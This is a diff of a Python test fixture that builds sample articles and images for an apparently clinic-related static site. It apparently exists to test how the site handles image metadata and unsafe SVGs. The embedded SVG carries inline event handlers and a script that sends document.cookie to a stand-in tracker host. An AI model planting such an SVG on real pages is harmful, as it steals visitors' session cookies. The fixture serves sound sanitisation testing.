@@ -1,7 +1,31 @@
 """The rich fixture site: the real content plus 24 articles that exercise
-pagination, featured and body images, and every callout type."""
+pagination, featured and body images, and every callout type.
+
+The pictures are as staff would add them: the featured one a phone photo
+(4032 x 3024, stored sideways with EXIF orientation, camera make and model,
+GPS and XMP), a PNG with EXIF and XMP, and an SVG carrying a script, an event
+handler and links to another site."""
 
 from PIL import Image, ImageDraw
+
+from bench.photos import phone_photo, photo_png
+
+UNSAFE_SVG = """<?xml version="1.0" encoding="UTF-8"?>
+<!-- drawn in an editor -->
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
+     xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 640 360"
+     onload="alert(1)" inkscape:version="1.3">
+  <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>
+  <script>fetch('https://tracker.example/?c=' + document.cookie)</script>
+  <style>@import url(https://fonts.example/x.css); .room { fill: #0b5c63; }</style>
+  <rect class="room" x="10" y="10" width="620" height="340" onclick="alert(2)"/>
+  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
+  <a href="https://elsewhere.example/"><text x="20" y="40">Waiting room</text></a>
+  <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
+  <use xlink:href="https://elsewhere.example/sprite.svg#icon"/>
+  <circle cx="320" cy="180" r="60" fill="#ffd54a"/>
+</svg>
+"""
 
 ARTICLE_COUNT = 24
 RICH_ARTICLE = """Title: {title}
@@ -47,16 +71,23 @@ def draw_image(path, size, colour):
 
 def add_rich_articles(content):
     """Write the test articles and their pictures into a copy of content/.
-    The last article has a featured image and a body image."""
+    The last article has a featured photo and a body PNG; the one before it a
+    body photo only (its first picture); the one before that an SVG."""
     (content / "images").mkdir(exist_ok=True)
-    draw_image(content / "images" / "test-featured.jpg", (1600, 900), "#0b5c63")
-    draw_image(content / "images" / "test-body.png", (1000, 600), "#4c6272")
+    phone_photo(content / "images" / "test-featured.jpg", seed=1)
+    photo_png(content / "images" / "test-body.png", (1000, 600))
+    draw_image(content / "images" / "test-small.jpg", (400, 300), "#4c6272")
+    (content / "images" / "test-plan.svg").write_text(UNSAFE_SVG, encoding="utf-8")
+    body_images = {
+        ARTICLE_COUNT: "![A yellow circle on a grey background]({static}../images/test-body.png)",
+        ARTICLE_COUNT - 1: "![A small yellow circle]({static}../images/test-small.jpg)",
+        ARTICLE_COUNT - 2: "![The floor plan of the waiting room]({static}../images/test-plan.svg)",
+    }
     for n in range(1, ARTICLE_COUNT + 1):
         last = n == ARTICLE_COUNT
         image = ("Image: images/test-featured.jpg\nImageAlt: A yellow circle on a teal background\n"
                  if last else "")
-        body_image = ("\n![A yellow circle on a grey background]({static}../images/test-body.png)\n"
-                      if last else "")
+        body_image = f"\n{body_images[n]}\n" if n in body_images else ""
         (content / "articles" / f"2026-10-{n:02d}-test-article-{n}.md").write_text(RICH_ARTICLE.format(
             title=f"Test article {n}", date=f"2026-10-{n:02d}", n=n,
             category="Clinic news" if n % 2 else "Depression",
